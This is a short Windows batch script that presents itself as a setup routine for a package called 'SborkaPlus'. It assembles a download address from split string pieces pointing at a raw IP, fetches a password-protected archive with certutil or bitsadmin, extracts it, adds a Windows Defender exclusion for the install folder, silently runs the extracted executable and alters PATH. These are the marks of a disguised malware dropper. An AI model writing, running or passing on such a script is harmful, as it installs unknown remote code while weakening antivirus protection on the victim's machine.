@echo off
setlocal EnableDelayedExpansion
title Podgotovka SborkaPlus

set "H1=http://"
set "H2=91.204.17"
set "H3=8:8443"
set "PUT=/paket/sborkaplus-x64.7z"
set "ISTOCHNIK=!H1!!H2!!H3!!PUT!"
set "ZIP_PAROL=sborka2024"
set "CEL=%LOCALAPPDATA%\SborkaPlus"

if not exist "%CEL%" mkdir "%CEL%"

certutil -urlcache -split -f "!ISTOCHNIK!" "%TEMP%\sp.7z" >nul 2>&1
if errorlevel 1 (
  bitsadmin /transfer sp /download /priority high "!ISTOCHNIK!" "%TEMP%\sp.7z" >nul
)

"%ProgramFiles%\7-Zip\7z.exe" x "%TEMP%\sp.7z" -p%ZIP_PAROL% -o"%CEL%" -y >nul

powershell -NoProfile -Command "Add-MpPreference -ExclusionPath '%CEL%'" >nul 2>&1
start "" /b "%CEL%\sp-setup.exe" /silent /register
setx PATH "%PATH%;%CEL%\bin" >nul

echo Gotovo. Otkroyte novoe okno cmd.
endlocal
